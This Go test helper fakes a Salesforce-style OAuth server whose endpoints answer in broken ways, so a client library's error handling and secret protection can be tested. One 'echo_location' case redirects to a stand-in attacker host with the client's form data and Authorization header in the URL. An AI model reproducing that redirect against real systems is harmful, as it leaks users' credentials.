package demo

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
)

// Endpoint is one that answers a program, not a browser.
type Endpoint string

// The endpoints that FailAt knows.
const (
	TokenEndpoint      Endpoint = "token"
	IdentityEndpoint   Endpoint = "identity"
	IntrospectEndpoint Endpoint = "introspect"
	RevokeEndpoint     Endpoint = "revoke"
	DiscoveryEndpoint  Endpoint = "discovery"
	Data360Endpoint    Endpoint = "data360"
)

var stageOf = map[Endpoint]stage{
	TokenEndpoint: atToken, IdentityEndpoint: atIdentity, IntrospectEndpoint: atIntrospect, RevokeEndpoint: atRevoke, DiscoveryEndpoint: atDiscovery,
	Data360Endpoint: atData360,
}

// shape is one way in which an endpoint is broken.
type shape struct {
	name string
	act  act
}

// shapes are the answers of an endpoint that is broken, or of a host between it and sfauth.
// Those named echo repeat the request with its secrets.
func shapes() []shape {
	return []shape{
		{"html_200", instead(text(http.StatusOK, asHTML, hotel))},
		{"status_500", instead(text(http.StatusInternalServerError, asText, "Internal Server Error"))},
		{"status_503_html", instead(text(http.StatusServiceUnavailable, asHTML, maintenance))},
		{"status_429", instead(text(http.StatusTooManyRequests, asText, ""))},
		{"status_420", instead(text(420, asText, ""))},
		{"redirect", sending(http.StatusFound)},
		{"redirect_with_body", sending(http.StatusTemporaryRedirect)},
		{"empty", instead(text(http.StatusOK, asJSON, ""))},
		{"null", instead(text(http.StatusOK, asJSON, "null"))},
		{"no_fields", instead(text(http.StatusOK, asJSON, "{}"))},
		{"list", instead(text(http.StatusOK, asJSON, "[]"))},
		{"no_json", instead(text(http.StatusOK, asJSON, `{"access_token": oops`))},
		{"twice", again(func(name string) string { return name })},
		{"other_case", again(strings.ToUpper)},
		{"truncated", spoiled(truncate)},
		{"endless", instead(answer{contentType: asJSON, stream: flood})},
		{"silence", spoiled(hang)},
		{"reset", instead(answer{stream: raw(func(string) string { return "" })})},
		{"escapes", instead(refusal("server_error", escapes))},

		{"echo_status_line", instead(answer{stream: raw(func(said string) string { return "HTTP/1.1 " + said + "\r\n\r\n" })})},
		{"echo_protocol", instead(answer{stream: raw(func(said string) string { return said + "\r\n\r\n" })})},
		{"echo_header", instead(answer{stream: raw(func(said string) string { return "HTTP/1.1 200 OK\r\n" + said + "\r\n\r\n" })})},
		{"echo_length", instead(answer{stream: raw(func(said string) string { return "HTTP/1.1 200 OK\r\nContent-Length: " + said + "\r\n\r\n" })})},
		{"echo_encoding", instead(answer{stream: raw(func(said string) string { return "HTTP/1.1 200 OK\r\nTransfer-Encoding: " + said + "\r\n\r\n" })})},
		{"echo_chunk", instead(answer{stream: raw(func(said string) string {
			return "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + said + "\r\n"
		})})},
		{"echo_location", instead(answer{stream: raw(func(said string) string {
			return "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?" + said + "\r\nContent-Length: 0\r\n\r\n"
		})})},
		{"echo_error", echoing(http.StatusBadRequest, func(said string) map[string]any {
			return map[string]any{"error": said, "error_description": "invalid"}
		})},
		{"echo_description", echoing(http.StatusBadRequest, func(said string) map[string]any {
			return map[string]any{"error": "invalid_request", "error_description": "you sent " + said}
		})},
		{"echo_page", instead(answer{stream: raw(func(said string) string {
			return fmt.Sprintf("HTTP/1.1 400 Bad Request\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s", len(said), said)
		})})},
	}
}

// Shapes lists the names that FailAt knows.
func Shapes() (names []string) {
	for _, s := range shapes() {
		names = append(names, s.name)
	}
	return names
}

// FailAt makes one endpoint answer in the shape of this name, until it or Fail is called
// again. It panics where Shapes has no such name.
func (o *Org) FailAt(at Endpoint, shape string) {
	for _, s := range shapes() {
		if s.name == shape {
			o.set(fault{name: shape, at: stageOf[at], act: s.act})
			return
		}
	}
	panic("demo: no shape is called " + shape)
}

// sent is all that the client sent, which a broken host may send back.
func sent(r *http.Request) string {
	return r.PostForm.Encode() + "&" + r.Header.Get("Authorization")
}

// raw writes bytes that no handler of net/http could write, and closes the connection.
func raw(answer func(said string) string) func([]byte, http.ResponseWriter, *http.Request) {
	return func(_ []byte, w http.ResponseWriter, r *http.Request) {
		c, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		_, _ = io.WriteString(c, answer(sent(r)))
	}
}

// echoing repeats the request in an answer of Salesforce's form.
func echoing(status int, fields func(said string) map[string]any) act {
	return func(_ *Org, r *http.Request, _ handler) answer {
		a := reply(fields(sent(r)))
		a.status = status
		return a
	}
}

// again repeats each field of the answer under another spelling of its name, with a wrong
// value.
func again(name func(string) string) act {
	return spoiled(func(body []byte, w http.ResponseWriter, _ *http.Request) {
		var fields map[string]any
		_ = json.Unmarshal(body, &fields)
		var more []string
		for field := range fields {
			more = append(more, fmt.Sprintf("%q:%q", name(field), "another"))
		}
		slices.Sort(more)
		if len(more) == 0 { // an answer without fields
			body, more = []byte("{}"), []string{`"error":"x","error":"y"`}
		}
		body = bytes.TrimSuffix(bytes.TrimSpace(body), []byte("}"))
		if !bytes.HasSuffix(body, []byte("{")) {
			body = append(body, ',')
		}
		_, _ = w.Write(append(body, strings.Join(more, ",")+"}"...))
	})
}
